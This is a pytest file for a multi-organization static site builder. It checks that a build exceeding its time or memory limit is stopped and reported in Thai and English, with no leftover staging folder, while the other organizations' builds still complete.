def test_an_organization_over_its_time_limit_is_reported_and_the_others_build(tmp_path: Path) -> None:
    shutil.copytree(SMALL, tmp_path / "orgs" / "alpha")
    result = build_all(tmp_path, "--org-seconds", "0.01")
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert "สร้างเว็บไซต์ของหน่วยงานนี้นานเกิน 0.01 วินาที จึงหยุดไว้" in result.stderr
    assert "took longer than 0.01 s and was stopped" in result.stderr
    assert not (tmp_path / "out" / "alpha").exists()
    assert not list((tmp_path / "out").glob(".alpha.*")), "the stopped build left its staging folder"


def test_an_organization_over_its_memory_limit_is_reported_and_the_others_build(tmp_path: Path) -> None:
    orgs = tmp_path / "orgs"
    # "alpha" holds a complaint list of 20,000 rows (3.5 MB, under the 20 MB file limit) whose
    # build needs about 170 MB; "beta", built after it in the same worker, needs under 90 MB.
    shutil.copytree(SMALL, orgs / "alpha")
    shutil.copytree(SMALL, orgs / "beta")
    data = orgs / "alpha" / "years" / "2568" / "data"
    (data / "complaints.yml").unlink()
    rows = "".join(f"ช่วงที่ {i} ของการรับเรื่องร้องเรียนจากประชาชนในเขตเทศบาล,{i},{i},0\n" for i in range(20_000))
    (data / "complaints.csv").write_text(HEADER + rows, encoding="utf-8")
    result = build_all(tmp_path, "--org-memory-mb", "150")
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    lines = result.stderr.splitlines()
    at = next(i for i, line in enumerate(lines) if "(โฟลเดอร์ alpha) สร้างเว็บไซต์ไม่สำเร็จ" in line)
    assert "สร้างเว็บไซต์ของหน่วยงานนี้ใช้หน่วยความจำเกิน 150 MB จึงหยุดไว้" in lines[at + 2], result.stderr
    assert "needed more than 150 MB of memory and was stopped; the others went on" in lines[at + 3], result.stderr
    assert "beta" not in result.stderr
    out = tmp_path / "out"
    assert not (out / "alpha").exists() and not list(out.glob(".alpha.*"))
    assert "2568/data/complaints" in "".join(p.as_posix() for p in (out / "beta").rglob("*.html"))
    manifest = __import__("json").loads((out / "_manifests" / "shard-1-of-1.json").read_text(encoding="utf-8"))
    assert [(m["slug"], m["ok"]) for m in manifest] == [("alpha", False), ("beta", True)]
